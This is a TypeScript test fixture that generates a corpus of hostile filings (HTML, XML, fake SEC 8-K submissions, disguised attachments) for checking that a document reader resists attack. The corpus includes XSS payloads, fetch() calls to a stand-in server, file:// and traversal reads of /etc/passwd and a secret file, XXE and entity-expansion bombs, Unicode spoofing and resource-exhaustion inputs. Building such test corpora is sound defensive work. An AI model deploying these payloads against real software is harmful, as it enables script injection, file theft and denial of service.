/** A file as somebody might send it who means harm. */
export interface HostileFiling {
  readonly name: string;
  readonly bytes: Uint8Array;
}

/** Where the filings try to get to. */
export interface Lures {
  /** A server that counts who connects to it, such as "http://127.0.0.1:4000". */
  readonly server: string;
  /** The absolute path of a file that the app was not given. */
  readonly secret: string;
}

/** Words that stand in every one of them, to be read as if nothing else were there. */
export const QUIET = 'The looms of Tarnwick ran through the quarter without a stop.';

const encoder = new TextEncoder();
const quiet = `<p>${QUIET}</p>`;

function html(body: string, head = ''): Uint8Array {
  return encoder.encode(
    `<html><head>${head}</head><body>${quiet}\n${body}\n<p>End.</p></body></html>`,
  );
}

/** Bytes of which each character of the text is one. */
function raw(text: string): Uint8Array {
  return Uint8Array.from(text, (character) => character.charCodeAt(0) & 0xff);
}

function uuencode(bytes: Uint8Array, name: string): string {
  const letter = (six: number) => String.fromCharCode((six & 63) === 0 ? 96 : (six & 63) + 32);
  let text = `begin 644 ${name}\n`;
  for (let from = 0; from < bytes.length; from += 45) {
    const line = bytes.subarray(from, from + 45);
    text += letter(line.length);
    for (let i = 0; i < line.length; i += 3) {
      const [a = 0, b = 0, c = 0] = line.subarray(i, i + 3);
      text +=
        letter(a >> 2) + letter((a << 4) | (b >> 4)) + letter((b << 2) | (c >> 6)) + letter(c);
    }
    text += '\n';
  }
  return `${text}\`\nend\n`;
}

interface Part {
  readonly type: string;
  readonly filename: string;
  readonly description?: string;
  readonly body: string;
}

function submission(parts: readonly Part[], filer = 'TARNWICK LOOMS INC'): Uint8Array {
  const documents = parts.map(
    ({ type, filename, description = type, body }, i) =>
      `<DOCUMENT>\n<TYPE>${type}\n<SEQUENCE>${i + 1}\n<FILENAME>${filename}\n<DESCRIPTION>${description}\n<TEXT>\n${body}\n</TEXT>\n</DOCUMENT>\n`,
  );
  return encoder.encode(
    `<SEC-DOCUMENT>0000000000-25-000001.txt : 20250102\n<SEC-HEADER>\nACCESSION NUMBER: 0000000000-25-000001\nCONFORMED SUBMISSION TYPE: 8-K\nFILER:\n COMPANY DATA:\n  COMPANY CONFORMED NAME: ${filer}\n  CENTRAL INDEX KEY: 0000000099\n</SEC-HEADER>\n${documents.join('')}</SEC-DOCUMENT>\n`,
  );
}

/** Everything that runs, or would in a browser: it sets `hostile` on the window and calls the server. */
function scripts({ server }: Lures): readonly HostileFiling[] {
  const run = `window.hostile=1;document.title='hostile';fetch('${server}/ran')`;
  const quoted = run.replaceAll("'", '&#39;');
  return [
    {
      name: 'scripts.htm',
      bytes: html(
        `<script>${run}</script><SCRIPT SRC="${server}/a.js"></SCRIPT><scr<script>ipt>${run}</scr</script>ipt>` +
          `<script type=module src=${server}/m.js></script><noscript><p title="</noscript><img src=x onerror=${run}>"></noscript>`,
        `<script>${run}</script>`,
      ),
    },
    {
      name: 'event-handlers.htm',
      bytes: html(
        `<img src=x onerror="${quoted}" onload="${quoted}"><p onclick="${quoted}" onmouseover="${quoted}">press me</p>` +
          `<body onload="${quoted}"><details open ontoggle="${quoted}"><summary>more</summary></details>` +
          `<input autofocus onfocus="${quoted}"><video><source onerror="${quoted}"></video><marquee onstart="${quoted}">roll</marquee>` +
          `<a href="#x" onclick="${quoted}">here</a><p style="animation:x 1s" onanimationstart="${quoted}">dance</p>`,
      ),
    },
    {
      name: 'script-links.htm',
      bytes: html(
        [
          `javascript:${quoted}`,
          `JaVaScRiPt:${quoted}`,
          `&#106;avascript:${quoted}`,
          `java&#10;script:${quoted}`,
          `java\tscript:${quoted}`,
          `&#1;javascript:${quoted}`,
          `\u200bjavascript:${quoted}`,
          `vbscript:msgbox(1)`,
          `data:text/html,<script>${quoted}</script>`,
          `blob:app://reader/x`,
          `file:///etc/passwd`,
          `app://reader/index.html`,
          `x-apple.systempreferences:`,
          `//127.0.0.1/`,
        ]
          .map((address, i) => `<p><a href="${address}">Link number ${i}</a> of several.</p>`)
          .join('\n'),
      ),
    },
    {
      name: 'svg-and-mathml.htm',
      bytes: html(
        `<svg onload="${quoted}"><script>${run}</script><a xlink:href="javascript:${quoted}"><text>a drawn word</text></a>` +
          `<foreignObject><img src=x onerror="${quoted}"></foreignObject><image href="${server}/svg.png"/><use href="${server}/use.svg#a"/></svg>` +
          `<math><mtext><table><mglyph><style><img src=x onerror="${quoted}"></style></mglyph></table></mtext><maction actiontype="statusline#${server}" xlink:href="javascript:${quoted}">x</maction></math>`,
      ),
    },
    {
      name: 'templates.htm',
      bytes: html(
        `<p>{{ constructor.constructor("${run.replaceAll("'", '`')}")() }} {% include "/etc/passwd" %} \${${run}} &lt;%= ${run} %&gt; #{7*7}</p>` +
          `<p>__proto__ constructor toString</p><a name="__proto__"></a><a href="#__proto__">prototype</a><a href="#constructor">maker</a><div id="constructor">x</div>`,
      ),
    },
    {
      name: 'release.md',
      bytes: encoder.encode(
        `# Tarnwick\n\n${QUIET}\n\n[press](javascript:${run.replaceAll(/[()]/g, '')}) and [data](data:text/html,x) and <img src=x onerror=alert` +
          `(1)>\n\n![picture](${server}/md.png)\n\n- [site](https://www.example.com/)\n`,
      ),
    },
  ];
}

/** Everything that fetches something, goes somewhere or reads a file. */
function requests({ server, secret }: Lures): readonly HostileFiling[] {
  return [
    {
      name: 'fetching.htm',
      bytes: html(
        `<img src="${server}/i.png" srcset="${server}/2x.png 2x"><p style="background:url(${server}/bg.png);list-style-image:url('${server}/li.png');cursor:url(${server}/c.cur),auto">painted</p>` +
          `<table background="${server}/t.png"><tr><td>cell</td></tr></table><audio src="${server}/a.mp3" autoplay></audio><video poster="${server}/p.png"></video>` +
          `<embed src="${server}/e.swf"><object data="${server}/o.pdf"></object><applet code=x codebase="${server}"></applet><bgsound src="${server}/b.wav"><input type=image src="${server}/in.png">`,
        `<base href="${server}/"><link rel=stylesheet href="${server}/s.css"><link rel=preload as=image href="${server}/p.png"><link rel=dns-prefetch href="${server}"><link rel=icon href="${server}/f.ico">` +
          `<style>@import url(${server}/i.css);@font-face{font-family:x;src:url(${server}/f.woff)}p{background:url(${server}/css.png)!important;position:fixed;z-index:999999;inset:0}</style>`,
      ),
    },
    {
      name: 'leaving.htm',
      bytes: html(
        `<iframe src="${server}/frame"></iframe><iframe srcdoc="<script>top.location='${server}'</script>"></iframe><frameset><frame src="${server}/f"></frameset>` +
          `<form action="${server}/form" method=post><input name=token value=1><button formaction="${server}/b">Send</button></form>` +
          `<a href="${server}/link" target=_blank ping="${server}/ping">out</a><portal src="${server}"></portal>`,
        `<base target=_top href="${server}"><meta http-equiv=refresh content="0;url=${server}/refresh"><meta http-equiv="Content-Security-Policy" content="script-src *"><meta http-equiv=set-cookie content="a=b">`,
      ),
    },
    {
      name: 'foreign-files.htm',
      bytes: html(
        `<img src="file://${secret}"><img src="${secret}"><img src="../../../../../../../../..${secret}"><iframe src="file://${secret}"></iframe><object data="${secret}"></object><a href="file://${secret}">file</a>`,
      ),
    },
    {
      name: 'entities.xml',
      bytes: encoder.encode(
        `<?xml version="1.0"?>\n<!DOCTYPE f [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;"><!ENTITY x SYSTEM "file://${secret}"><!ENTITY % p SYSTEM "${server}/dtd">%p;]>\n<f><note>${QUIET}</note><bomb>&c;&c;&c;</bomb><leak>&x;</leak></f>`,
      ),
    },
    {
      name: 'traversal.txt',
      bytes: submission([
        {
          type: '8-K',
          filename: `../../../../../../../..${secret}`,
          body: `<html><body>${quiet}<p>The mill.</p><p>The yard.</p><img src="../../../../../../../..${secret}"></body></html>`,
        },
        { type: 'EX-99.1', filename: '..\\..\\windows\\win.ini', body: 'A second paper.' },
        {
          type: 'GRAPHIC',
          filename: secret,
          body: `begin 644 ../../../..${secret}\n#0V%T\n\`\nend`,
        },
      ]),
    },
  ];
}

const PNG_SIGNATURE = '\x89PNG\r\n\x1a\n';

/** Attachments that are not what their names say. */
function liars({ server }: Lures): readonly HostileFiling[] {
  const script = `<script>top.hostile=1;fetch('${server}/lie')</script>`;
  const svg = `<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9" onload="top.hostile=1"><script>top.hostile=1</script><image href="${server}/svg.png"/><style>@import url(${server}/svg.css);</style><rect width="9" height="9"/></svg>`;
  const files: readonly (readonly [string, Uint8Array])[] = [
    ['page.png', raw(`<html>${script}</html>`)],
    ['drawing.png', raw(svg)],
    ['drawing.svg', raw(svg)],
    ['half.gif', raw(`GIF89a/*${script}*/=1;`)],
    [
      'bomb.png',
      raw(
        `${PNG_SIGNATURE}\0\0\0\rIHDR\x7f\xff\xff\xff\x7f\xff\xff\xff\x08\x06\0\0\0\0\0\0\0\0\0\0\0IDAT`,
      ),
    ],
    ['x.png,text/html,<b>', raw(script)],
  ];
  const images = files.map(([name]) => `<p><img src="${name}" alt="picture"></p>`).join('');
  return [
    {
      name: 'lying-attachments.txt',
      bytes: submission([
        { type: '8-K', filename: 'form.htm', body: `<html><body>${quiet}${images}</body></html>` },
        ...files.map(([filename, bytes]) => ({
          type: 'GRAPHIC',
          filename,
          body: uuencode(bytes, filename).trimEnd(),
        })),
      ]),
    },
  ];
}

/** Bytes and characters that are read otherwise than they look. */
function disguises({ server }: Lures): readonly HostileFiling[] {
  const lowAlert = `+ADw-script+AD4-window.hostile+AD0-1+ADw-/script+AD4-`;
  return [
    {
      name: 'utf-7.htm',
      bytes: html(
        `<p>${lowAlert}</p>`,
        '<meta http-equiv="Content-Type" content="text/html; charset=utf-7">',
      ),
    },
    {
      name: 'overlong.htm',
      bytes: raw(
        `<html><body>${quiet}<p>\xc0\xbcscript\xc0\xbewindow.hostile=1\xe0\x80\xbc/script\xe0\x80\xbe</p><p>\xf0\x80\x80\xbcimg onerror=1\xf8\x80\x80\x80\xbe\xed\xa0\x80</p></body></html>`,
      ),
    },
    {
      name: 'turned-around.txt',
      bytes: submission(
        [
          {
            type: '8-K',
            filename: 'release\u202egnp.exe',
            description: 'PRESS \u202eESAELER',
            body:
              `<html><body>${quiet}<p>Net loss was $\u202e000,21\u202c for the year, and \u2066half\u2069 of it in May.</p>` +
              `<p>A dose of 1\u200b0 mg\u2060/\u034fkg was <a href="https://www.sec.gov/\u202emoc.live//">given</a>\u{e0041}\u{e0042}.</p></body></html>`,
          },
        ],
        'TARNWICK\u202e SMOOL\u200b INC',
      ),
    },
    {
      name: 'nulls.htm',
      bytes: raw(
        `<ht\0ml><body>${quiet}<scr\0ipt>window.hostile=1</scr\0ipt><p>&#0;&#x0;&lt;script&gt;window.hostile=1&lt;/script&gt;</p><img src="${server}/\0.png"></body></html>`,
      ),
    },
  ];
}

/** Little that asks for much. */
function bombs(): readonly HostileFiling[] {
  return [
    {
      name: 'spans.htm',
      bytes: html(
        `<table>${'<tr><td colspan=2147483647 rowspan=2147483647>1</td><td rowspan=65534>2</td></tr>'.repeat(300)}</table>`,
      ),
    },
    { name: 'nesting.htm', bytes: html('<div><table><tr><td><ul><li><b>'.repeat(20_000)) },
    {
      name: 'attributes.htm',
      bytes: html(
        `<p ${Array.from({ length: 30_000 }, (_, i) => `a${i}=${i}`).join(' ')}>many</p><p style="${'color:red;'.repeat(30_000)}">red</p>`,
      ),
    },
    {
      name: 'entities.htm',
      bytes: html(
        `<p>${'&NotEqualTilde;&#x1d160;'.repeat(3_000)}</p><p>&#${'9'.repeat(50_000)};&${'a'.repeat(50_000)};</p>`,
      ),
    },
    {
      name: 'numbers.txt',
      bytes: encoder.encode(
        `${QUIET}\n\nThe response rate was ${'9'.repeat(20_000)}% (p<0.${'0'.repeat(20_000)}1) in ${'1,'.repeat(20_000)}000 patients.\n`,
      ),
    },
    {
      name: 'blanks.txt',
      bytes: encoder.encode(
        `${QUIET}\n\n# a${' '.repeat(60_000)}b\n${'\n'.repeat(60_000)}${'_'.repeat(60_000)}\n${'<PAGE>\n'.repeat(2_000)}`,
      ),
    },
  ];
}

/** All of them, aimed at these lures. */
export function hostileFilings(lures: Lures): readonly HostileFiling[] {
  return [...scripts(lures), ...requests(lures), ...liars(lures), ...disguises(lures), ...bombs()];
}
